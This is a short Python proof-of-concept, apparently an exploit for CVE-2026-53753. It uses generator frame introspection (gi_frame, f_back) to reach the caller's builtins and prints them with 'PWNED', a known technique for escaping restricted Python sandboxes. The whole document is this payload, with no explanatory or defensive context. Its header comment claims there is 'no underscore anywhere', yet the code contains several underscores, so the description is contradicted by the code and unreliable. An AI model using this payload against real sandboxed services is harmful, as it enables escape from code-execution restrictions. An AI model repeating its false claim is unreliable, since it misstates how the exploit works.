# CVE-2026-53753: no underscore anywhere.
found = []
g = (found.append(g.gi_frame.f_back) for _ in [1])
list(g)
print("PWNED", found[0].f_builtins)
